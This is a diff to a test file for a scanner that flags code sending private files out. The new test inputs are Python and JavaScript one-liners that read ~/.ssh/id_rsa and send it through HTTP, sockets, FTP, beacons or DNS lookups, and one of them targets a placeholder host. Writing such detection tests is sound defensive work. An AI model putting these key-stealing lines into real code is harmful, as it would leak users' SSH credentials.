@@ -7,7 +7,9 @@ function check(rule: RegExp, path: 'a.py' | 'a.js', statements: readonly string[
   for (const statement of statements) {
     const prepared = textPackage({ [path]: `${statement}\n` });
     const rules = commandScanners.flatMap(({ scan }) => scan(prepared)).map((finding) => finding.rule);
-    expect.soft([statement, rules]).toEqual([statement, [expect.stringMatching(rule)]]);
+    expect
+      .soft([statement, rules.filter((found) => rule.test(found))])
+      .toEqual([statement, [expect.any(String)]]);
   }
 }
 
@@ -34,21 +36,21 @@ test('every reading call is found with its private location', () => {
 
 test('every sending call is found with its private location', () => {
   check(/^exfiltration\/send-private$/, 'a.py', [
-    'requests.post(u, "~/.ssh/id_rsa")',
-    'session.put(u, "~/.ssh/id_rsa")',
-    'httpx.patch(u, "~/.ssh/id_rsa")',
-    'urlopen(u, "~/.ssh/id_rsa")',
-    'urllib.request.Request(u, "~/.ssh/id_rsa")',
-    's.send("~/.ssh/id_rsa")',
-    's.sendall("~/.ssh/id_rsa")',
-    'ftp.storbinary("~/.ssh/id_rsa")',
-    'socket.gethostbyname("~/.ssh/id_rsa")',
+    'requests.post(u, open("~/.ssh/id_rsa").read())',
+    'session.put("https://a.example", open("~/.ssh/id_rsa").read())',
+    'httpx.patch(u, open("~/.ssh/id_rsa").read())',
+    'urlopen(u, open("~/.ssh/id_rsa").read())',
+    'urllib.request.Request(u, open("~/.ssh/id_rsa").read())',
+    's = socket.socket()\ns.send(open("~/.ssh/id_rsa").read())',
+    's.sendall(open("~/.ssh/id_rsa").read())',
+    'ftp.storbinary(open("~/.ssh/id_rsa").read())',
+    'socket.gethostbyname(open("~/.ssh/id_rsa").read())',
   ]);
   check(/^exfiltration\/send-private$/, 'a.js', [
-    'fetch(u, "~/.ssh/id_rsa")',
-    'navigator.sendBeacon(u, "~/.ssh/id_rsa")',
-    'https.request(u, "~/.ssh/id_rsa")',
-    'dns.resolve("~/.ssh/id_rsa")',
+    'fetch(u, fs.readFileSync("~/.ssh/id_rsa"))',
+    'navigator.sendBeacon(u, fs.readFileSync("~/.ssh/id_rsa"))',
+    'https.request(u, fs.readFileSync("~/.ssh/id_rsa"))',
+    'dns.resolve(fs.readFileSync("~/.ssh/id_rsa"))',
   ]);
 });
 
